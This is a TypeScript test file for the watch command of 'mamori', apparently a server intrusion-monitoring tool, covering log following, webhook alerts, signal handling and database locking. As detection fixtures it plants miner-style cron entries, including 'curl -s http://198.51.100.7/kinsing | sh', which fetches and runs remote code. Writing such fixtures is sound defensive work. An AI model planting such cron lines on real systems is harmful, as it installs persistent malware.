import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import * as fs from "node:fs";
import * as http from "node:http";
import type * as net from "node:net";
import * as path from "node:path";
import { DatabaseSync } from "node:sqlite";
import { test } from "node:test";
import { mamori } from "../helpers/cli.ts";
import { tempDir } from "../helpers/tmp.ts";
import { serverRoot } from "./helpers.ts";

const MAIN = path.resolve(import.meta.dirname, "../../src/cli/main.ts");

test("watch --once follows the access log from its cursor and alerts on a new cron line", async (t) => {
  const dir = tempDir(t);
  const root = path.join(dir, "root");
  serverRoot(root);
  const log = path.join(root, "var/log/apache2/access.log");
  fs.writeFileSync(log, '203.0.113.5 - - [01/May/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 5\n');
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    let b = "";
    req.on("data", (c) => (b += c));
    req.on("end", () => {
      hits.push(b);
      res.end("ok");
    });
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  t.after(() => new Promise<void>((r) => server.close(() => r())));
  const port = (server.address() as net.AddressInfo).port;
  const cfg = path.join(dir, "mamori.yaml");
  fs.writeFileSync(
    cfg,
    [
      `db: ${path.join(dir, "h.db")}`,
      `root: ${root}`,
      "logs:",
      "  - path: /var/log/apache2/access.log",
      "alerts:",
      "  minSeverity: medium",
      "  webhooks:",
      "    - urlEnv: TEST_HOOK_URL",
      "      format: json",
      "",
    ].join("\n"),
  );
  const env = { TEST_HOOK_URL: `http://127.0.0.1:${port}/hook/tok`, MAMORI_CONFIG: cfg };
  const first = await mamori(["watch", "--once"], { env });
  assert.equal(first.code, 0, first.stderr);
  assert.match(first.stderr, /Baseline recorded/);
  assert.match(first.stderr, /done: \d+ findings?, 0 new, 1 new log line\b/);
  assert.equal(hits.length, 0, "the baseline scan has nothing new to alert");

  fs.appendFileSync(log, "line2\nline3\nline4-partial");
  fs.appendFileSync(path.join(root, "etc/crontab"), "* * * * * root /dev/shm/.x/kdevtmpfsi\n");
  const second = await mamori(["watch", "--once", "--lang", "ja"], { env });
  // A critical finding is open now: --once says so and exits 1, never "success" (issue 18).
  assert.equal(second.code, 1, second.stderr);
  assert.match(second.stderr, /緊急の検出が \d+ 件未解決のままです/);
  // The new line is a change (baseline) and, once hunting is merged, a miner's cron entry too.
  assert.match(second.stderr, /新規 2 件、新しいログ行 2 行/);
  assert.equal(hits.length, 1);
  const alert = JSON.parse(hits[0] ?? "{}");
  assert.deepEqual(alert.findings.map((f: { check: string }) => f.check).sort(), [
    "baseline.cron",
    "persistence.cron",
  ]);
  assert.match(alert.subject, /新しい検出 2 件/);

  fs.appendFileSync(log, "\n");
  const third = await mamori(["watch", "--once"], { env });
  assert.match(third.stderr, /0 new, 1 new log line\b/, "the partial line, once finished, counted once");
  assert.equal(hits.length, 1, "the same cron line does not alert twice");
  const h = JSON.parse((await mamori(["history", "--format", "json"], { env })).stdout).sections.history;
  assert.equal(h.scans.length, 3);
  assert.equal(h.deliveries.length, 1);
  assert.equal(h.deliveries[0].status, "sent");
  assert.equal(h.deliveries[0].target, `http://127.0.0.1:${port}/***`);
});

test("an invalid schedule is one clear line naming it", async () => {
  const r = await mamori(["watch", "--schedule", "*/15 * * *", "--db", "/nonexistent/x.db"]);
  assert.equal(r.code, 2);
  assert.match(r.stderr, /invalid schedule \*\/15 \* \* \*/);
});

function spawnWatch(args: string[], env: NodeJS.ProcessEnv) {
  const child = spawn(process.execPath, ["--disable-warning=ExperimentalWarning", MAIN, "watch", ...args], {
    env: { ...process.env, LANG: "en_US.UTF-8", ...env },
    stdio: ["ignore", "pipe", "pipe"],
  });
  let stderr = "";
  const waiters: Array<{ re: RegExp; resolve: () => void }> = [];
  child.stderr.on("data", (b) => {
    stderr += b;
    for (const w of [...waiters])
      if (w.re.test(stderr)) {
        waiters.splice(waiters.indexOf(w), 1);
        w.resolve();
      }
  });
  const exit = new Promise<{ code: number | null; signal: NodeJS.Signals | null }>((r) =>
    child.on("exit", (code, signal) => r({ code, signal })),
  );
  return {
    child,
    exit,
    stderr: () => stderr,
    waitFor: (re: RegExp, ms = 20_000) =>
      new Promise<void>((resolve, reject) => {
        if (re.test(stderr)) return resolve();
        const timer = setTimeout(() => reject(new Error(`timed out waiting for ${re}: ${stderr}`)), ms);
        waiters.push({
          re,
          resolve: () => {
            clearTimeout(timer);
            resolve();
          },
        });
      }),
  };
}

test("SIGTERM during a scan: the scan finishes and is stored whole, then watch exits 0", async (t) => {
  const dir = tempDir(t);
  const root = path.join(dir, "root");
  serverRoot(root);
  const db = path.join(dir, "h.db");
  const w = spawnWatch(
    ["--schedule", "* * * * * *", "--root", root, "--db", db, "--test-slow-ms", "1500"],
    {},
  );
  t.after(() => {
    if (w.child.exitCode === null) w.child.kill("SIGKILL");
  });
  await w.waitFor(/scan started/);
  await new Promise((r) => setTimeout(r, 300)); // inside the scan (it takes 1.5 s more)
  w.child.kill("SIGTERM");
  const { code } = await w.exit;
  assert.equal(code, 0, w.stderr());
  const err = w.stderr();
  assert.match(err, /received SIGTERM: finishing the scan in progress/);
  assert.match(err, /scan \S+ done/, "the scan in progress completed");
  assert.match(err, /mamori watch stopped/);
  assert.ok(err.indexOf("done") < err.indexOf("stopped"));
  assert.equal((err.match(/scan started/g) ?? []).length, 1, "no new scan after the signal");
  const check = new DatabaseSync(db, { readOnly: true });
  t.after(() => check.close());
  const scans = check.prepare("select id, total from scans").all() as Array<{ id: string; total: number }>;
  assert.equal(scans.length, 1);
  const rows = check.prepare("select count(*) n from findings where scan_id = ?").get(scans[0]?.id ?? "") as {
    n: number;
  };
  assert.equal(rows.n, scans[0]?.total, "all findings of the scan are there");
  assert.equal(fs.existsSync(`${db}.spool`), false);
});

test("SIGTERM while idle stops at once", async (t) => {
  const dir = tempDir(t);
  const w = spawnWatch(["--schedule", "0 0 1 1 *", "--root", dir, "--db", path.join(dir, "h.db")], {});
  t.after(() => {
    if (w.child.exitCode === null) w.child.kill("SIGKILL");
  });
  await w.waitFor(/next scan at/);
  const started = Date.now();
  w.child.kill("SIGTERM");
  const { code } = await w.exit;
  assert.equal(code, 0, w.stderr());
  assert.ok(Date.now() - started < 5000);
  assert.match(w.stderr(), /mamori watch stopped/);
});

test("one log reader at a time: a scan that finds the logs being read leaves them; a stale lock is taken over", async (t) => {
  const dir = tempDir(t);
  const root = path.join(dir, "root");
  serverRoot(root);
  const db = path.join(dir, "h.db");
  const log = path.join(root, "var/log/apache2/access.log");
  const cfg = path.join(dir, "c.yaml");
  fs.writeFileSync(cfg, "logs:\n  - path: /var/log/apache2/access.log\n");
  const args = ["watch", "--once", "--root", root, "--db", db, "--config", cfg];
  assert.equal((await mamori(args)).code, 0);
  fs.appendFileSync(log, "a\nb\n");
  // Another watcher (this test process stands in for it) holds the lock.
  fs.writeFileSync(`${db}.logs.lock`, String(process.pid));
  const busy = await mamori(args);
  assert.match(busy.stderr, /0 new log lines/);
  const h = JSON.parse((await mamori(["history", "--db", db, "--format", "json"])).stdout).sections.history;
  const logs = h.scans[0].notChecked.find((n: { area: string }) => n.area === "watch.logs");
  assert.match(logs?.detail ?? "", new RegExp(`pid ${process.pid}`));
  // Its owner died without cleaning up: the next scan takes the lock over and reads the lines, once.
  fs.writeFileSync(`${db}.logs.lock`, "999999999");
  const next = await mamori(args);
  assert.match(next.stderr, /2 new log lines/);
  assert.equal(fs.existsSync(`${db}.logs.lock`), false, "released after reading");
  assert.match((await mamori(args)).stderr, /0 new log lines/);
});

test("while the database is locked, spooled scans carry their log cursors: no line is counted twice", async (t) => {
  const dir = tempDir(t);
  const root = path.join(dir, "root");
  serverRoot(root);
  const db = path.join(dir, "h.db");
  const log = path.join(root, "var/log/apache2/access.log");
  const cfg = path.join(dir, "c.yaml");
  fs.writeFileSync(cfg, "logs:\n  - path: /var/log/apache2/access.log\nstore:\n  busyTimeoutMs: 100\n");
  const args = ["watch", "--once", "--root", root, "--db", db, "--config", cfg];
  fs.writeFileSync(log, "a\n");
  assert.match((await mamori(args)).stderr, /1 new log line\b/);
  const other = new DatabaseSync(db);
  other.exec("BEGIN IMMEDIATE; DELETE FROM baselines WHERE 0;");
  try {
    fs.appendFileSync(log, "b\nc\n");
    const r1 = await mamori(args);
    assert.match(r1.stderr, /kept in .*will be imported next time/);
    assert.match(r1.stderr, /2 new log lines/);
    fs.appendFileSync(log, "d\n");
    const r2 = await mamori(args);
    assert.match(r2.stderr, /kept in/);
    assert.match(r2.stderr, /1 new log line\b/, "continues from the spooled cursor, not the stored one");
  } finally {
    other.exec("ROLLBACK");
    other.close();
  }
  const r3 = await mamori(args);
  assert.match(r3.stderr, /Imported 2 spooled scan/);
  assert.match(r3.stderr, /0 new log lines/);
  const h = JSON.parse((await mamori(["history", "--db", db, "--format", "json"])).stdout).sections.history;
  assert.equal(h.scans.length, 4);
});

test("watch --once without an alert channel says nothing was sent and how many critical findings are open", async (t) => {
  const dir = tempDir(t);
  const root = path.join(dir, "root");
  serverRoot(root);
  fs.mkdirSync(path.join(root, "var/spool/cron/crontabs"), { recursive: true });
  fs.writeFileSync(
    path.join(root, "var/spool/cron/crontabs/www-data"),
    "* * * * * curl -s http://198.51.100.7/kinsing | sh\n",
  );
  const cfg = path.join(dir, "mamori.yaml");
  fs.writeFileSync(cfg, [`db: ${path.join(dir, "h.db")}`, `root: ${root}`, ""].join("\n"));
  const r = await mamori(["watch", "--once", "--lang", "en"], {
    env: { MAMORI_CONFIG: cfg, TZ: "Asia/Tokyo" },
  });
  // Its own lines tell the time in the reader's zone, like the reports (issue 18), not UTC ISO.
  assert.match(r.stderr, /scan started at \d{4}-\d\d-\d\d \d\d:\d\d:\d\d JST/);
  assert.doesNotMatch(r.stderr, /\d\d:\d\d:\d\d(\.\d+)?Z/);
  assert.match(r.stderr, /new findings?, but no alert channel is configured: nothing was sent/);
  assert.match(r.stderr, /(Still open: \d+ critical findings?|No critical finding is open)/);
  assert.equal(r.code, /Still open/.test(r.stderr) ? 1 : 0);
});
